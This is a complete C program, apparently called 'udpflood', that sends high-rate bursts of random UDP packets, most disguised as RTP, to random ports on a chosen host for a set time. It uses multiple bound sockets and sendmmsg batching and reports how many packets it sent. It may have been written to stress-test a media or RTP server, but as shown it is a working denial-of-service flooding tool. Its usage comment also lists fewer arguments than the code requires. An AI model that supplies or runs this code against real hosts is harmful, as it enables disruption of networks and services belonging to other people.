/* udpflood ADDRESS FIRST LAST SECONDS: garbage to random ports of a host, as fast as one processor can. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, SOCKETS = 8, SIZE = 172 };

static uint64_t state = 1;

static uint64_t random64(void)
{
	uint64_t z = (state += UINT64_C(0x9e3779b97f4a7c15));
	z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
	return z ^ z >> 31;
}

int main(int argc, char **argv)
{
	static uint8_t data[BATCH][SIZE];
	static struct sockaddr_in to[BATCH];
	static struct iovec iov[BATCH];
	static struct mmsghdr m[BATCH];
	int fd[SOCKETS];
	unsigned long sent = 0;
	struct timespec now;
	if (argc != 6)
		return 2;
	const unsigned first = (unsigned)atoi(argv[3]), last = (unsigned)atoi(argv[4]);
	for (int i = 0; i < SOCKETS; i++) {
		struct sockaddr_in from = {.sin_family = AF_INET};
		inet_pton(AF_INET, argv[1], &from.sin_addr);
		fd[i] = socket(AF_INET, SOCK_DGRAM, 0);
		if (bind(fd[i], (struct sockaddr *)&from, sizeof(from)) < 0)
			return 1;
	}
	for (int i = 0; i < BATCH; i++) {
		to[i].sin_family = AF_INET;
		inet_pton(AF_INET, argv[2], &to[i].sin_addr);
		iov[i] = (struct iovec){data[i], SIZE};
		m[i].msg_hdr = (struct msghdr){.msg_name = &to[i],
					       .msg_namelen = sizeof(to[i]),
					       .msg_iov = &iov[i],
					       .msg_iovlen = 1};
	}
	clock_gettime(CLOCK_MONOTONIC, &now);
	const double end = (double)now.tv_sec + (double)now.tv_nsec / 1e9 + atof(argv[5]);
	do {
		for (int i = 0; i < BATCH; i++) {
			const uint64_t r = random64();
			to[i].sin_port = htons((uint16_t)(first + r % (last - first + 1)));
			iov[i].iov_len = 1 + r / 7 % SIZE;
			memcpy(data[i], &r, sizeof(r));
			if (r >> 60 != 0) /* mostly what looks like RTP */
				data[i][0] = 0x80;
		}
		const int n = sendmmsg(fd[random64() % SOCKETS], m, BATCH, 0);
		sent += n > 0 ? (unsigned long)n : 0;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((double)now.tv_sec + (double)now.tv_nsec / 1e9 < end);
	printf("%lu\n", sent);
	return 0;
}
